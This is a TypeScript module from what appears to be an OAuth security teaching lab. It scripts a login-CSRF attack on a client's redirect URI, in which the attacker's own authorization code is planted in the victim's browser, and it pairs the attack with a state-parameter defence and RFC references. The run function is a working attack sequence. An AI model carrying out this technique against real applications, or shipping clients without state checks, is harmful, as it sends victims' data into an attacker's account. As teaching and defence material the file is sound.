/**
 * CSRF on the client's redirect URI: the attacker plants his own authorization code in the
 * victim's session, so her app is signed in to his account and what she saves there is his.
 * @see [RFC 9700 §4.7](https://www.rfc-editor.org/rfc/rfc9700#section-4.7)
 * @see [RFC 6749 §10.12](https://www.rfc-editor.org/rfc/rfc6749#section-10.12)
 */
import * as oauth from 'oauth4webapi'
import { rfc } from '../shared/spec-links.ts'
import { attackActors, defineAttack } from './attack-model.ts'
import {
  authorizationUrl,
  callbackUri,
  confidentialClient,
  discoverServer,
  landedOn,
  signIn,
  stolenToken,
  via,
} from './lab-client.ts'

const attackId = 'csrf'
const { client, auth } = confidentialClient('grantlab-lab-web')
const scope = 'openid profile orders:read orders:write'

export const csrfAttack = defineAttack({
  id: attackId,
  title: 'CSRF on the redirect URI',
  goal: 'Sign the victim’s app in to the attacker’s own account, so that whatever she saves there (a document, a card, an order) lands where the attacker can read it.',
  summary:
    'The attacker signs in with his own account and keeps the code the server sends back, unused. Then he makes the victim’s browser open the client’s redirect URI with that code. A client that cannot tell whether this browser started the login redeems the code: the victim is now in the attacker’s account.',
  specs: [rfc(9700, '4.7'), rfc(6749, '10.12'), rfc(9700, '2.1')],
  actors: [attackActors.victim, attackActors.attacker, attackActors.client, attackActors.as],
  defence: {
    label: 'Defence: state parameter',
    explanation:
      'The client makes a one-time state for each login, keeps it in this browser’s session and sends it in the authorization request; a response is accepted only with that state. A code the attacker planted comes with his state, or none, and is refused before it is ever redeemed. PKCE bound to the session would stop it too, at the token endpoint.',
    spec: rfc(6749, '10.12'),
    side: 'client',
    whenOff:
      'The client sends no state and checks the response with oauth4webapi’s expectNoState: it accepts any response that carries none. It sends no PKCE challenge either (this confidential client may leave PKCE out).',
  },
  clients: [
    {
      clientId: 'grantlab-lab-web',
      when: 'always',
      note: 'A confidential, first-party web app; the server is not weakened for it.',
    },
  ],
  steps: [
    {
      id: 'victim-starts',
      label: 'alice: Sign in → /authorize',
      title: 'Alice starts signing in at the app',
      from: 'victim',
      to: 'as',
      kind: 'redirect',
      spec: rfc(6749, '4.1.1'),
      explanation:
        'Alice clicks Sign in. The client builds an authorization request for her session (with the defence on, with a fresh state it keeps) and her browser goes to the server’s sign-in page. She has not signed in yet.',
    },
    {
      id: 'attacker-gets-code',
      label: 'bob signs in, keeps his code',
      title: 'The attacker signs in with his own account and keeps the code',
      from: 'attacker',
      to: 'as',
      kind: 'redirect',
      spec: rfc(6749, '4.1.2'),
      explanation:
        'In his own browser the attacker starts a login at the same app, signs in as bob, and lets the server redirect him to the client’s callback. He stops there: the code in that address is unused, single-use and valid for a minute, long enough.',
    },
    {
      id: 'plant-code',
      label: 'alice’s browser opens the callback',
      title: 'The attacker makes Alice’s browser open the callback with his code',
      from: 'attacker',
      to: 'victim',
      kind: 'redirect',
      spec: rfc(9700, '4.7'),
      explanation:
        'A link in a message, a hidden image or a frame on a page Alice visits: any of them makes her browser request the client’s redirect URI with the attacker’s code. Her browser shows the client’s callback page, as if her own login had come back.',
    },
    {
      id: 'client-callback',
      label: 'client checks the response',
      title: 'The client checks the response in Alice’s session',
      from: 'victim',
      to: 'client',
      kind: 'redirect',
      spec: rfc(6749, '10.12'),
      explanation:
        'The client reads the code from the address. This is where it must ask: did this browser start this login? With the state it kept for Alice it can; without one it cannot.',
    },
    {
      id: 'client-redeems',
      label: 'POST /token (bob’s code)',
      title: 'The client redeems the code: Alice’s session now holds Bob’s tokens',
      from: 'client',
      to: 'as',
      kind: 'request',
      spec: rfc(6749, '4.1.3'),
      explanation:
        'The code is genuine, so the server exchanges it, for the client it was issued to. The tokens are Bob’s: the ID token names user-bob.',
    },
    {
      id: 'victim-saves',
      label: 'POST /api/orders as bob',
      title: 'Alice saves an order, into Bob’s account',
      from: 'victim',
      to: 'client',
      kind: 'request',
      spec: rfc(9700, '4.7'),
      explanation:
        'Alice believes she is in her own account and places an order with her delivery address. The app sends it with the tokens it holds, Bob’s.',
    },
    {
      id: 'attacker-reads',
      label: 'bob reads his orders',
      title: 'The attacker signs in to his account and reads what Alice saved',
      from: 'attacker',
      to: 'client',
      kind: 'request',
      spec: rfc(9700, '4.7'),
      explanation:
        'Later the attacker signs in to the app as himself, as any user would, and lists his orders. Alice’s is among them.',
    },
  ],
  async run(ctx) {
    const redirectUri = callbackUri(ctx.appOrigin, attackId)
    const { as, aliceState } = await ctx.step('victim-starts', async (s) => {
      const as = await discoverServer(s, ctx.issuer)
      // DEFENCE: a one-time state for this browser's session (RFC 6749 §10.12). Off: none at all.
      const state = ctx.defence ? oauth.generateRandomState() : undefined
      const url = authorizationUrl(as, {
        response_type: 'code',
        client_id: client.client_id,
        redirect_uri: redirectUri,
        scope,
        state,
        prompt: 'login',
      })
      const page = await ctx.victim.open(url, s)
      s.show({ label: 'Alice’s authorization request', value: url, format: 'url' })
      s.show({
        label: 'State kept in Alice’s session',
        value: state ?? '(none: this client sends no state)',
      })
      s.summary(`Alice’s browser is at the server’s sign-in page (${page.status ?? '?'}).`)
      return { as, aliceState: state }
    })
    const plantedUrl = await ctx.step('attacker-gets-code', async (s) => {
      const bobState = ctx.defence ? oauth.generateRandomState() : undefined
      const start = await ctx.attacker.open(
        authorizationUrl(as, {
          response_type: 'code',
          client_id: client.client_id,
          redirect_uri: redirectUri,
          scope,
          state: bobState,
          prompt: 'login',
        }),
        s,
      )
      const landed = landedOn(await signIn(ctx.attacker, start, s, 'bob'), 'the callback')
      if (!landed.searchParams.has('code')) throw new Error(`No code came back: ${landed.href}`)
      s.show({
        label: 'The callback address the attacker keeps',
        value: landed.href,
        format: 'url',
      })
      s.summary('The attacker holds a fresh code for his own account, unused.')
      return landed.href
    })
    const page = await ctx.step('plant-code', async (s) => {
      const page = await ctx.victim.open(plantedUrl, s)
      s.summary('Alice’s browser opened the client’s callback with the attacker’s code.')
      return page
    })
    const params = await ctx.step('client-callback', async (s) => {
      const returned = landedOn(page, 'the client’s callback')
      s.show({ label: 'Address Alice’s browser is at', value: returned.href, format: 'url' })
      try {
        // Off: expectNoState, the client expects no state and so cannot tell whose login this is.
        return oauth.validateAuthResponse(as, client, returned, aliceState ?? oauth.expectNoState)
      } catch (error) {
        throw ctx.stopped(error, {
          check: 'state',
          spec: rfc(6749, '10.12'),
          by: 'client',
          expected: { code: 'OAUTH_INVALID_RESPONSE', text: /"state"/ },
        })
      }
    })
    const tokens = await ctx.step('client-redeems', async (s) => {
      const response = await oauth.authorizationCodeGrantRequest(
        as,
        client,
        auth,
        params,
        redirectUri,
        oauth.nopkce,
        via(s),
      )
      const tokens = await oauth.processAuthorizationCodeResponse(as, client, response)
      const claims = oauth.getValidatedIdTokenClaims(tokens)
      s.show({ label: 'The ID token names', value: String(claims?.sub) })
      s.token(stolenToken('ID token now in Alice’s session', tokens.id_token ?? ''))
      s.summary(`The client accepted the code: Alice’s session is signed in as ${claims?.sub}.`)
      return tokens
    })
    const order = await ctx.step('victim-saves', async (s) => {
      const response = await s.fetch(new URL('/api/orders', ctx.appOrigin).href, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${tokens.access_token}`,
          'content-type': 'application/json',
        },
        body: JSON.stringify({ item: 'Passport photos for Alice Liddell', quantity: 4 }),
      })
      const order = (await response.json()) as { id?: string; owner?: string }
      if (!response.ok) throw new Error(`The API refused the order (${response.status}).`)
      s.show({ label: 'The order Alice placed', value: JSON.stringify(order), format: 'json' })
      s.summary(`Alice’s order was saved for ${order.owner}.`)
      return order
    })
    const bobsOrders = await ctx.step('attacker-reads', async (s) => {
      const start = await ctx.attacker.open(
        authorizationUrl(as, {
          response_type: 'code',
          client_id: client.client_id,
          redirect_uri: redirectUri,
          scope,
          prompt: 'login',
        }),
        s,
      )
      const landed = landedOn(await signIn(ctx.attacker, start, s, 'bob'), 'the callback')
      const own = oauth.validateAuthResponse(as, client, landed, oauth.expectNoState)
      const response = await oauth.authorizationCodeGrantRequest(
        as,
        client,
        auth,
        own,
        redirectUri,
        oauth.nopkce,
        via(s),
      )
      const bobTokens = await oauth.processAuthorizationCodeResponse(as, client, response)
      const list = await s.fetch(new URL('/api/orders', ctx.appOrigin).href, {
        headers: { authorization: `Bearer ${bobTokens.access_token}` },
      })
      const { orders } = (await list.json()) as { orders: { id: string }[] }
      s.show({ label: 'Bob’s orders', value: JSON.stringify(orders), format: 'json' })
      s.summary(
        orders.some((listed) => listed.id === order.id)
          ? 'Alice’s order is in the attacker’s account.'
          : 'Alice’s order is not in the attacker’s account.',
      )
      return orders
    })
    return {
      status: 'succeeded',
      summary:
        'Alice’s app was signed in to Bob’s account, and the order she placed is his to read.',
      loot: {
        summary: `The victim's session held the attacker's tokens (user-bob); the order she placed belongs to ${order.owner}.`,
        tokens: [
          stolenToken('ID token planted in Alice’s session', tokens.id_token ?? ''),
          stolenToken('Access token planted in Alice’s session', tokens.access_token),
        ],
        values: [
          {
            label: 'Alice’s order, in Bob’s account',
            value: JSON.stringify(order),
            format: 'json',
          },
          {
            label: 'What the attacker reads in his account',
            value: JSON.stringify(bobsOrders),
            format: 'json',
          },
        ],
      },
    }
  },
})
